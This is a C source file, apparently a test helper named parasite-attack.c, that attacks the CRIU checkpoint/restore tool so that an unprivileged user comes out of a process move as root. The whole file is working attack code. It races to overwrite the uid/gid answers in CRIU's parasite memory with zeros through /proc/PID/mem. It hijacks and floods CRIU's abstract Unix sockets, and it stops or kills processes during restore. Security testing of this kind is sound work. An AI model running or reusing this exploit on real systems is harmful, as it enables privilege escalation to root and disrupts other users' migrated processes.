// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * parasite-attack.c - a user who wants to come out of a move as root
 *
 *	parasite-attack victim FILE             says in FILE who it is, again and again
 *	parasite-attack learn PID SECONDS       prints where CRIU's code in PID puts its uids
 *	parasite-attack attack PID SECONDS AT   writes 0 there, as often as it can
 *	parasite-attack connect SECONDS         connects to CRIU in place of that code, and is
 *						silent
 *	parasite-attack disturb SECONDS         sends rubbish to the processes that CRIU restores
 *	parasite-attack stop PID SECONDS        stops each new child of PID that it may stop
 *	parasite-attack kill PID USEC           kills PID that long after CRIU has restored it
 *
 * CRIU asks a frozen process who it is by code that it maps into it, from a memfd; the answers go
 * to memory that is mapped with it. "learn" and "attack" run as the same user and have the
 * process's memory open from before. Where the answers are is the same in each process and move.
 */
#include <err.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define ANSWERS_MAX (4u << 20)
#define VICTIM_BYTES (16u << 20)
#define WRITES 200 /* between two looks whether it is still there */

static _Noreturn void victim(const char *path)
{
	char text[64];
	struct timespec pause = { .tv_nsec = 10000000 };
	char *memory = malloc(VICTIM_BYTES);
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	/* CRIU writes it before it asks who this is, so that the attack has time. */
	if (!memory)
		err(1, "memory");
	memset(memory, 1, VICTIM_BYTES);
	for (unsigned int n = 0;; n++) {
		uid_t real, effective, saved;

		getresuid(&real, &effective, &saved);
		snprintf(text, sizeof(text), "%u %u %u %u\n", n, real, effective, saved);
		if (fd < 0 || pwrite(fd, text, strlen(text), 0) < 0)
			err(1, "%s", path);
		nanosleep(&pause, NULL);
	}
}

struct target {
	pid_t pid;
	int maps, mem;
};

static struct target open_target(pid_t pid)
{
	struct target target = { .pid = pid };
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	target.maps = open(path, O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	target.mem = open(path, O_RDWR | O_CLOEXEC);
	if (target.maps < 0 || target.mem < 0)
		err(1, "%s", path);
	puts("ready");
	fflush(stdout);
	return target;
}

/* The writable part of what CRIU has mapped; false: nothing is mapped now. */
static bool find_answers(const struct target *target, unsigned long *ret_start,
			 unsigned long *ret_end)
{
	static char text[1 << 16];
	ssize_t n = pread(target->maps, text, sizeof(text) - 1, 0);
	char mode[8];

	text[n < 0 ? 0 : n] = '\0';
	for (char *line = text, *end; (end = strchr(line, '\n')); line = end + 1) {
		*end = '\0';
		if (strstr(line, "/memfd:CRIUMFD") &&
		    sscanf(line, "%lx-%lx %7s", ret_start, ret_end, mode) == 3 && mode[1] == 'w')
			return true;
	}
	return false;
}

/* Four uids and four gids, all of them this user's. */
static long find_uids(const struct target *target, unsigned long start, unsigned long end)
{
	static unsigned char answers[ANSWERS_MAX];
	size_t size = end - start > ANSWERS_MAX ? ANSWERS_MAX : end - start;
	ssize_t n = pread(target->mem, answers, size, (off_t)start);
	const unsigned char *at;
	uint32_t ids[8];

	for (size_t i = 0; i < 8; i++)
		ids[i] = i < 4 ? getuid() : getgid();
	at = n > 0 ? memmem(answers, (size_t)n, ids, sizeof(ids)) : NULL;
	return at ? at - answers : -1;
}

static void learn(pid_t pid, int seconds)
{
	struct target target = open_target(pid);
	time_t until = time(NULL) + seconds;
	unsigned long start, end;
	long at = -1;

	while (at < 0 && time(NULL) < until)
		if (find_answers(&target, &start, &end))
			at = find_uids(&target, start, end);
	printf("at %ld\n", at);
}

/* On each CPU one, as the one beside CRIU hardly gets to run. */
static void spread(void)
{
	long n = sysconf(_SC_NPROCESSORS_ONLN);

	for (long cpu = 0; cpu < n; cpu++) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET((int)cpu, &set);
		if (cpu == n - 1 || fork() == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			sched_setaffinity(0, sizeof(set), &set);
			return;
		}
	}
}

static void attack(pid_t pid, int seconds, long at)
{
	static const uint32_t root[4];
	struct target target = open_target(pid);
	time_t until = time(NULL) + seconds;
	unsigned long start, end, n = 0;

	spread();
	while (time(NULL) < until) {
		if (!find_answers(&target, &start, &end)) {
			if (n > 0)
				break;
			continue;
		}
		for (int i = 0; i < WRITES; i++)
			n += pwrite(target.mem, root, sizeof(root), (off_t)start + at) ==
			     sizeof(root);
	}
	printf("written %lu\n", n);
}

/* The names of sockets; "@" is the first byte of an abstract one. */
static char *list_sockets(int list)
{
	static char text[1 << 20];
	size_t n = 0;
	ssize_t got;

	lseek(list, 0, SEEK_SET);
	while ((got = read(list, text + n, sizeof(text) - 1 - n)) > 0)
		n += (size_t)got;
	text[n] = '\0';
	return text;
}

/* The first name that begins like this; what follows it, or NULL. */
static char *find_socket(char *list, const char *prefix, struct sockaddr_un *ret,
			 socklen_t *ret_size)
{
	char *name = strstr(list, prefix), *end = name ? strchr(name, '\n') : NULL;

	if (!end || (size_t)(end - name) >= sizeof(ret->sun_path))
		return NULL;
	*ret = (struct sockaddr_un){ .sun_family = AF_UNIX };
	memcpy(ret->sun_path + 1, name + 1, (size_t)(end - name) - 1);
	*ret_size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)(end - name));
	return end;
}

static void intrude(int seconds)
{
	time_t until = time(NULL) + seconds;
	int list = open("/proc/net/unix", O_RDONLY | O_CLOEXEC), n = 0;
	struct sockaddr_un name;
	socklen_t size;

	puts("ready");
	fflush(stdout);
	while (time(NULL) < until && n < 500) {
		int sock;

		if (!find_socket(list_sockets(list), "@/crtools-pr-", &name, &size))
			continue;
		/* It stays open. */
		sock = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK, 0);
		if (connect(sock, (struct sockaddr *)&name, size) == 0) {
			printf("connected %d\n", ++n);
			fflush(stdout);
		} else {
			close(sock);
		}
	}
}

/* They hand each other descriptors over these. */
static void disturb(int seconds)
{
	time_t until = time(NULL) + seconds;
	int list = open("/proc/net/unix", O_RDONLY | O_CLOEXEC);
	int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	struct sockaddr_un name;
	socklen_t size;

	puts("ready");
	fflush(stdout);
	while (time(NULL) < until) {
		char *at = list_sockets(list);

		while ((at = find_socket(at, "@/crtools-fd-", &name, &size)))
			sendto(sock, "rubbish", 8, 0, (struct sockaddr *)&name, size);
	}
}

static long last_child(int list)
{
	char text[4096], *at = text, *end;
	ssize_t n = pread(list, text, sizeof(text) - 1, 0);
	long last = 0;

	text[n < 0 ? 0 : n] = '\0';
	for (long child; (child = strtol(at, &end, 10)) > 0; at = end)
		last = child;
	return last;
}

/* They may be there for less than a millisecond. */
static void stop(pid_t pid, int seconds)
{
	time_t until = time(NULL) + seconds;
	char path[64];
	long first, child;
	int list;

	snprintf(path, sizeof(path), "/proc/%d/task/%d/children", (int)pid, (int)pid);
	list = open(path, O_RDONLY | O_CLOEXEC);
	if (list < 0)
		err(1, "%s", path);
	first = last_child(list);
	puts("ready");
	fflush(stdout);
	while (time(NULL) < until) {
		child = last_child(list);
		if (child != first && child > 0 && kill((pid_t)child, SIGSTOP) == 0) {
			puts("stopped");
			fflush(stdout);
		}
	}
}

/* A restored process is the user's again and traced until it runs. */
static void kill_restored(pid_t pid, long usec)
{
	struct timespec pause = { .tv_nsec = usec * 1000 };
	time_t until = time(NULL) + 10;
	char path[64], text[512];
	bool gone = false;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	puts("ready");
	fflush(stdout);
	while (time(NULL) < until) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

		if (fd >= 0)
			close(fd);
		text[n < 0 ? 0 : n] = '\0';
		gone |= n <= 0 || kill(pid, 0) < 0;
		if (!gone || !strstr(text, ") t ") || kill(pid, 0) < 0)
			continue;
		nanosleep(&pause, NULL);
		kill(pid, SIGKILL);
		puts("killed");
		return;
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "victim"))
		victim(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "connect"))
		intrude(atoi(argv[2]));
	else if (argc == 3 && !strcmp(argv[1], "disturb"))
		disturb(atoi(argv[2]));
	else if (argc == 4 && !strcmp(argv[1], "kill"))
		kill_restored(atoi(argv[2]), atol(argv[3]));
	else if (argc == 4 && !strcmp(argv[1], "stop"))
		stop(atoi(argv[2]), atoi(argv[3]));
	else if (argc == 4 && !strcmp(argv[1], "learn"))
		learn(atoi(argv[2]), atoi(argv[3]));
	else if (argc == 5 && !strcmp(argv[1], "attack"))
		attack(atoi(argv[2]), atoi(argv[3]), atol(argv[4]));
	else
		errx(2, "usage: parasite-attack victim FILE | learn PID SECONDS | "
			"attack PID SECONDS AT | connect SECONDS | disturb SECONDS | stop PID "
			"SECONDS | kill PID USEC");
	return 0;
}
